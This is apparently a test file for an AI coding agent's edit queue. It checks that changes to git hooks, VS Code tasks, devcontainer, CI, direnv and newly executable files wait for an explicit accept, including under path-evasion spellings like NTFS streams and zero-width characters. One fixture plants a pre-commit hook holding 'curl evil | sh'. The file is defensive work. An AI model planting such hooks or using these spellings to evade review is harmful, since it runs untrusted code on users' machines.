/**
 * Which agent changes need an explicit accept: the path classifier on many spellings, cases and
 * depths, and the edit queue's policy (auto-accept and "Accept all" leave them pending; an explicit
 * accept applies them).
 */
import assert from 'node:assert/strict';
import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, test } from 'node:test';
import { DirUserFiles, EditQueue } from '../../../src/edits';
import { canonicalSegment, sensitiveChange, sensitivePath } from '../../../src/edits/sensitive';
import { DirSandbox } from '../../support/dir-sandbox';

describe('sensitivePath', () => {
  const sensitive = [
    // git, any case, any depth, files and directories
    '.git/hooks/pre-commit',
    '.Git/hooks/pre-commit',
    '.GIT/config',
    '.gIt/hooks/post-checkout',
    'sub/dir/.git/hooks/pre-push',
    'vendor/lib/.Git/config',
    '.git',
    'nested/.git',
    '.gitattributes',
    'data/.gitattributes',
    '.GitAttributes',
    '.gitmodules',
    '.GITMODULES',
    '.gitignore',
    'src/.gitignore',
    '.gitlab-ci.yml',
    '.git-blame-ignore-revs',
    '.github/workflows/ci.yml',
    '.GitHub/Workflows/release.yaml',
    'pkg/.github/workflows/x.yml',
    '.github/dependabot.yml',
    // what Windows and macOS drop from names
    '.git./hooks/pre-commit',
    '.git /hooks/pre-commit',
    '.git::$INDEX_ALLOCATION/hooks/pre-commit',
    'GIT~1/hooks/pre-commit',
    'git~2/config',
    '.g\u200cit/hooks/pre-commit',
    '.\ufeffgit/config',
    '.vscode./tasks.json',
    // editor, container, CI, shell
    '.vscode/tasks.json',
    '.vscode/settings.json',
    '.VSCode/launch.json',
    'packages/app/.vscode/tasks.json',
    '.devcontainer/devcontainer.json',
    '.devcontainer/Dockerfile',
    '.DevContainer/post-create.sh',
    'svc/.devcontainer/devcontainer.json',
    '.devcontainer.json',
    'sub/.DEVCONTAINER.JSON',
    'project.code-workspace',
    'ws/Team.Code-Workspace',
    '.envrc',
    'sub/.ENVRC',
    // backslashes and dot segments are folded like slashes
    '.vscode\\tasks.json',
    './.git/hooks/pre-commit',
    'a//.github/workflows/w.yml',
  ];
  for (const p of sensitive) {
    test(`flags ${JSON.stringify(p)}`, () => {
      assert.ok(sensitivePath(p), `${p} should need an explicit accept`);
    });
  }

  const ordinary = [
    'reproduce.sh',
    'README.md',
    'src/train.py',
    'git/notes.md',
    'my.git/file',
    'legit/config',
    'docs/gitbook.md',
    'vscode/tasks.json',
    '.vscode-test.mjs',
    'devcontainer.json',
    'src/envrc.py',
    'code-workspace.md',
    'github/workflows/ci.yml',
    'results/.hidden.csv',
  ];
  for (const p of ordinary) {
    test(`leaves ${JSON.stringify(p)} alone`, () => {
      assert.equal(sensitivePath(p), undefined);
    });
  }

  test('the reasons say what runs', () => {
    assert.match(sensitivePath('.Git/hooks/pre-commit')!, /hooks/);
    assert.match(sensitivePath('.vscode/tasks.json')!, /tasks/);
    assert.match(sensitivePath('.devcontainer/devcontainer.json')!, /container/);
    assert.match(sensitivePath('.github/workflows/ci.yml')!, /CI workflow/);
    assert.match(sensitivePath('.envrc')!, /direnv/);
    assert.match(sensitivePath('a.code-workspace')!, /workspace file/);
    assert.match(sensitivePath('.gitattributes')!, /filters/);
  });

  test('canonical segments', () => {
    assert.equal(canonicalSegment('.GIT. . '), '.git');
    assert.equal(canonicalSegment('.git::$DATA'), '.git');
    assert.equal(canonicalSegment('.g\u200dit'), '.git');
    // A leading colon is not a stream suffix (POSIX allows it in a name).
    assert.equal(canonicalSegment(':x'), ':x');
  });
});

describe('sensitiveChange: executables', () => {
  test('a new executable or a +x is flagged; reproduce.sh at the root is not', () => {
    assert.match(
      sensitiveChange('scripts/run.sh', { executable: true, wasExecutable: false })!,
      /executable/,
    );
    assert.match(sensitiveChange('tool', { executable: true, wasExecutable: false })!, /executable/);
    assert.match(
      sensitiveChange('sub/reproduce.sh', { executable: true, wasExecutable: false })!,
      /executable/,
    );
    assert.equal(sensitiveChange('reproduce.sh', { executable: true, wasExecutable: false }), undefined);
    assert.equal(sensitiveChange('./Reproduce.sh', { executable: true, wasExecutable: false }), undefined);
  });
  test('an edit to a file that already was executable, or an unknown mode, is ordinary', () => {
    assert.equal(sensitiveChange('scripts/run.sh', { executable: true, wasExecutable: true }), undefined);
    assert.equal(sensitiveChange('scripts/run.sh', {}), undefined);
    assert.equal(sensitiveChange('scripts/run.sh', { executable: false, wasExecutable: true }), undefined);
  });
  test('the name wins over the mode', () => {
    assert.match(
      sensitiveChange('.git/hooks/pre-commit', { executable: true, wasExecutable: false })!,
      /hooks/,
    );
  });
});

describe('the edit queue and sensitive changes', () => {
  const cleanups: (() => Promise<void>)[] = [];
  afterEach(async () => {
    for (const c of cleanups.splice(0)) await c();
  });

  async function setup() {
    const sandbox = await DirSandbox.create({ 'README.md': 'hello\n', 'run.sh': 'echo hi\n' });
    const ws = await mkdtemp(join(tmpdir(), 'klong-ws-'));
    await writeFile(join(ws, 'README.md'), 'hello\n');
    await writeFile(join(ws, 'run.sh'), 'echo hi\n');
    cleanups.push(
      () => sandbox.dispose(),
      () => rm(ws, { recursive: true, force: true }),
    );
    const warnings: string[] = [];
    const queue = new EditQueue({
      sandbox,
      user: new DirUserFiles(ws),
      mode: 'auto-accept',
      onWarning: (m) => warnings.push(m),
    });
    const put = async (p: string, c: string) => {
      await mkdir(join(sandbox.workdir, p, '..'), { recursive: true });
      await writeFile(join(sandbox.workdir, p), c);
    };
    return { sandbox, ws, queue, warnings, put };
  }

  const exists = (p: string) =>
    readFile(p).then(
      () => true,
      () => false,
    );

  test('auto-accept applies the ordinary file and leaves the sensitive ones pending, with a reason', async () => {
    const { sandbox, ws, queue, warnings, put } = await setup();
    await put('.vscode/tasks.json', '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}\n');
    await put('.Git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n');
    await put('.devcontainer/devcontainer.json', '{}\n');
    await put('.envrc', 'export X=1\n');
    await put('tool.sh', '#!/bin/sh\n');
    await chmod(join(sandbox.workdir, 'tool.sh'), 0o755);
    await chmod(join(sandbox.workdir, 'run.sh'), 0o755);
    await put('notes.md', 'ordinary\n');
    const { outcomes } = await queue.afterTool(1);
    assert.deepEqual(
      outcomes.map((o) => [o.path, o.status]),
      [['notes.md', 'accepted']],
    );
    assert.equal(await readFile(join(ws, 'notes.md'), 'utf8'), 'ordinary\n');
    for (const p of [
      '.vscode/tasks.json',
      '.Git/hooks/pre-commit',
      '.devcontainer/devcontainer.json',
      '.envrc',
      'tool.sh',
    ])
      assert.equal(await exists(join(ws, p)), false, `${p} must not reach the workspace`);
    const pending = queue.list();
    assert.deepEqual(
      pending.map((p) => p.path),
      // `.git` in any letter case is never proposed at all (it never leaves the container).
      ['.devcontainer/devcontainer.json', '.envrc', 'run.sh', 'tool.sh', '.vscode/tasks.json'].sort((a, b) =>
        a.localeCompare(b),
      ),
    );
    for (const p of pending) assert.ok(p.sensitive, `${p.path} carries its reason`);
    assert.match(queue.get('run.sh')!.sensitive!, /executable/);
    assert.equal(warnings.length, 5);
    assert.ok(warnings.some((w) => w.startsWith('.vscode/tasks.json was not applied: VS Code config')));

    // The next step changes a held-back file again: still pending, and no second warning.
    await put('.vscode/tasks.json', '{"tasks":[]}\n');
    await queue.afterTool(2);
    assert.ok(queue.get('.vscode/tasks.json')?.sensitive);
    assert.equal(warnings.length, 5);

    // "Accept all" skips them too; an accept of the file itself applies it.
    assert.deepEqual(await queue.acceptAll(), []);
    const o = await queue.accept('.vscode/tasks.json');
    assert.equal(o.status, 'accepted');
    assert.equal(await readFile(join(ws, '.vscode/tasks.json'), 'utf8'), '{"tasks":[]}\n');
  });

  test('a file made executable in a later step becomes sensitive again', async () => {
    const { sandbox, queue, put } = await setup();
    await put('scripts/train.sh', 'python train.py\n');
    await queue.afterTool(1);
    assert.equal(queue.list().length, 0, 'the plain script was auto-accepted');
    await chmod(join(sandbox.workdir, 'scripts/train.sh'), 0o755);
    await queue.afterTool(2);
    assert.match(queue.get('scripts/train.sh')?.sensitive ?? '', /executable/);
  });

  test('renaming a sensitive file away is sensitive', async () => {
    const sandbox = await DirSandbox.create({ '.vscode/tasks.json': '{"tasks":[1]}\n' });
    const ws = await mkdtemp(join(tmpdir(), 'klong-ws-'));
    cleanups.push(
      () => sandbox.dispose(),
      () => rm(ws, { recursive: true, force: true }),
    );
    await mkdir(join(ws, '.vscode'));
    await writeFile(join(ws, '.vscode/tasks.json'), '{"tasks":[1]}\n');
    const queue = new EditQueue({ sandbox, user: new DirUserFiles(ws), mode: 'auto-accept' });
    await sandbox.exec('mv .vscode/tasks.json old-tasks.json');
    await queue.afterTool(1);
    const p = queue.get('old-tasks.json');
    assert.equal(p?.renamedFrom, '.vscode/tasks.json');
    assert.match(p?.sensitive ?? '', /VS Code/);
    assert.equal(await exists(join(ws, '.vscode/tasks.json')), true);
  });
});
